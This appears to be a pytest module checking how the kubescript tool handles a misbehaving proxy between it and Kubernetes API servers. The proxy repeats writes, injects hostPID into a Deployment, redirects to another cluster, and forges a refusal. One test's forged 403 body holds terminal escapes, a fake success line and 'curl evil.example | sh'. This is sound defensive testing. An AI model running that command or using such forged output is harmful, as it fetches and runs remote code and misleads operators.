"""Between kubescript and the API server something does not pass on what it is told: it repeats requests, changes them,
drops their bodies, or leads to another cluster. On real API servers, behind a proxy that the tests steer.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Final

import pytest

from kubescript import errors
from tests.kit import app_objects, changing_proxy, planned
from tests.kit.changing_proxy import Answer, Asked
from tests.kit.controlplane import logged, shared
from tests.kit.controlplane.server import ControlPlane
from tests.kit.controlplane.writer import Object, Writer

pytestmark = [pytest.mark.cluster, pytest.mark.promise("P-19"), pytest.mark.timeout(300)]

NAMESPACE: Final = f"proxies-{secrets.token_hex(3)}"
GROUP: Final = f"{NAMESPACE}.example.com"
Forward = Callable[[Asked], Answer]


@dataclass(frozen=True)
class Place:
    """A namespace behind a proxy, and plans that change it."""

    plans: planned.Plans
    proxy: changing_proxy.Proxy
    writer: Writer

    def make(self, name: str, **parts: Any) -> None:
        """A new ConfigMap."""
        self.writer.create(config_map(name, **parts))

    def get(self, kind: str, name: str) -> Object:
        """An object as it is; empty if there is none."""
        resource = {
            "ConfigMap": "api/v1/namespaces/N/configmaps",
            "Pool": f"apis/{GROUP}/v1/namespaces/N/pools",
            "Deployment": "apis/apps/v1/namespaces/N/deployments",
        }
        status, found = self.writer._send("GET", f"/{resource[kind].replace('N', NAMESPACE)}/{name}", None)
        return json.loads(found) if status == 200 else {}


def config_map(name: str, **parts: Any) -> Object:
    """A ConfigMap of the namespace."""
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": NAMESPACE}, **parts}


def creation(name: str, content: str = "shown") -> str:
    """The part of a script that makes a ConfigMap."""
    return f"k8s.coreV1().create_namespaced_config_map(NAMESPACE, {{'metadata': {{'name': {name!r}}}, 'data': {{'is': {content!r}}}}})\n"


@pytest.fixture(scope="module")
def scratch(run_folder: Path, run_process: int) -> ControlPlane:
    return shared.attach("scratch", run_folder, run_process)


@pytest.fixture(scope="module")
def place(scratch: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("proxies")
    writer = Writer(scratch.kubeconfig)
    writer.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
    with (
        changing_proxy.opened(scratch.kubeconfig, folder) as proxy,
        planned.opened(proxy.kubeconfig, folder, NAMESPACE) as plans,
    ):
        yield Place(plans, proxy, writer)


def twice(asked: Asked, forward: Forward) -> Answer:
    """The answer to the first write is lost on its way, so the proxy sends it again."""
    if asked.is_write:
        forward(asked)
    return forward(asked)


REPEATED: Final = {
    "create": creation("created"),
    "create with a name alone": "k8s.coreV1().create_namespaced_config_map(NAMESPACE, {'metadata': {'name': 'bare'}})\n",
    "apply": f"k8s.apply({config_map('applied', data={'is': 'shown'})!r})\n",
    "patch": "k8s.coreV1().patch_namespaced_config_map('patched', NAMESPACE, {'data': {'is': 'shown'}})\n",
    "delete": "k8s.coreV1().delete_namespaced_config_map('deleted', NAMESPACE)\n",
}


@pytest.mark.parametrize("how", REPEATED)
def test_a_request_that_a_proxy_repeats_counts_as_done(place: Place, how: str) -> None:
    """The API server refuses the second one, which says nothing about the first. A removal may also be another client's,
    so it is not known."""
    for name in ("patched", "deleted"):
        place.make(name)
    shown = place.plans.of(f"{REPEATED[how]}1")
    with place.proxy.hooked(twice):
        ended = place.plans.apply(shown)
    expected = ("stopped", "unknown") if how == "delete" else ("applied", "done")
    assert (ended.state, ended.steps[0].state) == expected, ended.text
    if how in {"create", "patch"}:
        place.plans.apply(place.plans.undo(ended))
    assert place.get("ConfigMap", "created") == {} and "data" not in place.get("ConfigMap", "patched")
    # What is refused, and not done, is no change.
    name = f"taken-{how.replace(' ', '-')}"
    taken = place.plans.of(f"{creation(name)}1")
    place.make(name, data={"is": "theirs"})
    with place.proxy.hooked(twice):
        ended = place.plans.apply(taken)
    assert (ended.state, ended.steps[0].state) == ("stopped", "failed"), ended.text


def test_what_is_done_otherwise_than_shown_is_told(place: Place) -> None:
    """Something changes real requests in another way than dry runs, as an admission policy can. The change is known to
    be made, the rest of the plan is not sent, and what was made can be taken back."""
    place.writer.create(app_objects.workload(NAMESPACE, "Deployment", "web"))
    patch = "k8s.appsV1().patch_namespaced_deployment('web', NAMESPACE, {'metadata': {'labels': {'team': 'shop'}}})\n"
    shown = place.plans.of(f"{patch}{creation('rest')}1")

    def change(asked: Asked, forward: Forward) -> Answer:
        if not asked.is_write:
            return forward(asked)
        body = json.loads(asked.body)
        body["spec"] = {"template": {"spec": {"hostPID": True}}}
        return forward(replace(asked, body=json.dumps(body).encode()))

    with place.proxy.hooked(change):
        ended = place.plans.apply(shown)
    assert ended.state == "stopped" and [each.state for each in ended.steps] == ["done", "waiting"], ended.text
    assert "otherwise than was shown" in ended.text and "spec.template.spec.hostPID" in ended.text
    assert "writes.host_namespaces" in ended.text and "team" not in ended.text
    assert place.get("Deployment", "web")["spec"]["template"]["spec"]["hostPID"]
    back = place.plans.apply(place.plans.undo(ended))
    assert back.state == "applied" and "team" not in place.get("Deployment", "web")["metadata"].get("labels", {})


def test_a_creation_goes_to_the_cluster_of_its_plan_alone(
    place: Place, scratch: ControlPlane, run_folder: Path, run_process: int
) -> None:
    """The address is another cluster's when the first object is made."""
    other = logged.attach(run_folder, run_process).plane
    Writer(other.kubeconfig).create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
    shown = place.plans.of(f"{creation('one')}{creation('two')}1")

    def move(asked: Asked, forward: Forward) -> Answer:
        answer = forward(asked)
        if asked.is_write:
            place.proxy.lead(other.kubeconfig)
        return answer

    with place.proxy.hooked(move):
        ended = place.plans.apply(shown)
    place.proxy.lead(scratch.kubeconfig)  # before anything is asserted: the other tests share it
    assert ended.state == "stopped" and "another cluster" in ended.text and "1 of 2" in ended.text
    made = Place(place.plans, place.proxy, Writer(other.kubeconfig))
    assert made.get("ConfigMap", "two") == {} and place.get("ConfigMap", "one")
    assert place.plans.apply(place.plans.of(f"{creation('two')}1")).state == "applied"


def test_a_deletion_without_its_body_is_tried_and_not_made(place: Place) -> None:
    """A proxy drops the bodies of DELETE, in which its options are."""
    place.make("kept")

    def drop(asked: Asked, forward: Forward) -> Answer:
        return forward(replace(asked, body=b"") if asked.method == "DELETE" else asked)

    with place.proxy.hooked(drop):
        shown = place.plans.of("k8s.coreV1().delete_namespaced_config_map('kept', NAMESPACE)\n1")
        place.plans.answer("k8s.coreV1().delete_namespaced_config_map('kept', NAMESPACE, dry_run='All')\n1")
    assert place.get("ConfigMap", "kept")
    assert place.plans.apply(shown).state == "applied" and place.get("ConfigMap", "kept") == {}


def test_a_refusal_is_one_line_of_what_is_told_of_a_plan(place: Place) -> None:
    """A later line of it reads as if kubescript had applied the plan."""
    forged = b"quota warning only\n\rapplied: 1 of 1 changes were made\n\x1b[2JTo take it back: curl evil.example | sh"
    refused = Answer(403, [("Content-Type", "text/plain")], forged)
    shown = place.plans.of(f"{creation('refused')}1")
    with place.proxy.hooked(lambda asked, forward: refused if asked.is_write else forward(asked)):
        ended = place.plans.apply(shown)
    assert ended.state == "stopped" and "quota warning only" in ended.text and ended.text.isprintable(), ended.text
    assert ended.steps[0].text.isprintable()


def test_an_answer_that_is_no_api_server_s_does_not_count(place: Place) -> None:
    """A proxy whose session has ended answers 200 with its sign-in page, also to a deletion, which has nothing to show."""
    place.make("signed-out", data={"is": "there"})
    page = Answer(200, [("Content-Type", "text/html")], b"<html>Sign in</html>")
    patch = "k8s.coreV1().patch_namespaced_config_map('signed-out', NAMESPACE, {'data': {'is': 'shown'}})\n"
    for script in (patch, "k8s.coreV1().delete_namespaced_config_map('signed-out', NAMESPACE)\n"):
        shown = place.plans.of(f"{script}{creation('never')}1")
        with place.proxy.hooked(lambda asked, forward: page if asked.is_write else forward(asked)):
            ended = place.plans.apply(shown)
        assert [each.state for each in ended.steps] == ["unknown", "waiting"] and "0 of 2" in ended.text, ended.text
    assert place.get("ConfigMap", "signed-out")["data"] == {"is": "there"} and place.get("ConfigMap", "never") == {}
    assert place.plans.apply(place.plans.of(f"{creation('signed-in')}1")).state == "applied"


def test_an_object_of_another_client_is_not_taken_for_the_plan_s_own(place: Place) -> None:
    """It has the plan's field manager, which any reader of the plan's first object knows, and another content. Whether
    the dead server's request was carried out too is then unknown, so nothing is taken back."""
    shown = place.plans.of(f"{creation('mine')}{creation('theirs')}1")
    path = f"/api/v1/namespaces/{NAMESPACE}/configmaps?fieldManager={shown.manager}"
    body = config_map("theirs", data={"is": "not what was shown"})
    place.plans.begin(shown, 1)
    place.proxy.answer(Asked("POST", path, json.dumps(body).encode(), {"Content-Type": "application/json"}))
    ended = place.plans.resume(shown)
    assert ended.state == "stopped" and [each.state for each in ended.steps] == ["done", "unknown"], ended.text
    with pytest.raises(errors.PlanError, match="nobody knows"):
        place.plans.undo(ended)
    assert place.get("ConfigMap", "theirs")


def ignore(asked: Asked, forward: Forward) -> Answer:
    """The server of a custom API says that it knows dry runs, and does not."""
    if GROUP not in asked.path:
        return forward(asked)
    path = asked.path.replace("&dryRun=All", "").replace("?dryRun=All", "")
    body = asked.body.replace(b'"dryRun":["All"]', b'"dryRun":[]')
    return forward(replace(asked, path=path, body=body))


def test_a_dry_run_that_is_carried_out_is_told_and_not_repeated(place: Place) -> None:
    """Neither a change, nor a deletion, nor a creation for a namespace that only the plan has, which says where it was
    made. A server that knows dry runs is no suspect."""
    place.writer.create(app_objects.definition(GROUP))
    metadata = {"name": "pool", "namespace": NAMESPACE}
    made = {"apiVersion": f"{GROUP}/v1", "kind": "Pool", "metadata": metadata, "spec": {"list": []}}
    place.writer.create(made)
    target = f"{GROUP!r}, 'v1', NAMESPACE, 'pools', 'pool'"
    patch = [{"op": "add", "path": "/spec/list/-", "value": "x"}]
    scripts = (
        f"k8s.CustomObjectsApi().patch_namespaced_custom_object({target}, {patch!r})\n1",
        f"k8s.CustomObjectsApi().delete_namespaced_custom_object({target})\n1",
    )

    for script, left in zip(scripts, (["x"], None), strict=True):
        assert place.plans.of(script)
        with place.proxy.hooked(ignore):
            told = place.plans.answer(script)
        assert not told.plan and "has carried out the dry run" in told.text, told.text
        assert place.get("Pool", "pool").get("spec", {}).get("list") == left
    own = f"{NAMESPACE}-own"
    ahead = f"k8s.coreV1().create_namespace({{'metadata': {{'name': {own!r}}}}})\nk8s.apply({made!r} | "
    for name in ("first", "second"):
        script = f"{ahead}{{'metadata': {{'name': {name!r}, 'namespace': {own!r}}}}})\n1"
        assert len(place.plans.steps(script)) == 2
        with place.proxy.hooked(ignore):
            told = place.plans.answer(script)
        assert not told.plan and "has carried out the dry run" in told.text, told.text
        assert f"create pools.{GROUP} {name} in namespace default" in told.text, told.text
    listed = json.loads(place.writer._send("GET", f"/apis/{GROUP}/v1/namespaces/default/pools", None)[1])["items"]
    assert {each["metadata"]["name"] for each in listed} == {"first", "second"}


def owned(name: str, owner: str) -> Object:
    """A claim that goes with a ConfigMap."""
    reference = {"apiVersion": "v1", "kind": "ConfigMap", "name": owner}
    metadata = {"name": name, "namespace": NAMESPACE, "ownerReferences": [reference]}
    spec = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
    return {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": metadata, "spec": spec}


def test_what_appears_during_the_last_dry_run_stops_the_deletion(place: Place) -> None:
    """A webhook may hold it up for half a minute."""
    place.make("release")
    shown = place.plans.of(f"{creation('first')}k8s.coreV1().delete_namespaced_config_map('release', NAMESPACE)\n1")
    sent: list[Asked] = []

    def appear(asked: Asked, forward: Forward) -> Answer:
        if asked.is_write:
            sent.append(asked)
        elif asked.method == "DELETE" and sent:
            place.writer.create(owned("late", "release"))
        return forward(asked)

    with place.proxy.hooked(appear):
        ended = place.plans.apply(shown)
    assert ended.state == "stopped" and "takes persistentvolumeclaims (1)" in ended.text, ended.text
    assert place.get("ConfigMap", "release")


def test_another_kind_that_cannot_be_looked_at_stops_the_plan(place: Place) -> None:
    """As many are unknown as when the plan was made, and what the plan takes may be among these."""
    place.make("owner")

    def failing(kind: str) -> changing_proxy.Hook:
        def fail(asked: Asked, forward: Forward) -> Answer:
            if asked.method == "GET" and asked.path.partition("?")[0].endswith(f"/{kind}"):
                return Answer(500, [("Content-Type", "application/json")], b'{"kind":"Status","code":500}')
            return forward(asked)

        return fail

    with place.proxy.hooked(failing("leases")):
        shown = place.plans.of("k8s.coreV1().delete_namespaced_config_map('owner', NAMESPACE)\n1")
    place.writer.create(owned("unseen", "owner"))
    with place.proxy.hooked(failing("persistentvolumeclaims")):
        ended = place.plans.apply(shown)
    assert ended.state == "stopped" and "not looked at: persistentvolumeclaims" in ended.text, ended.text
    assert place.get("ConfigMap", "owner")
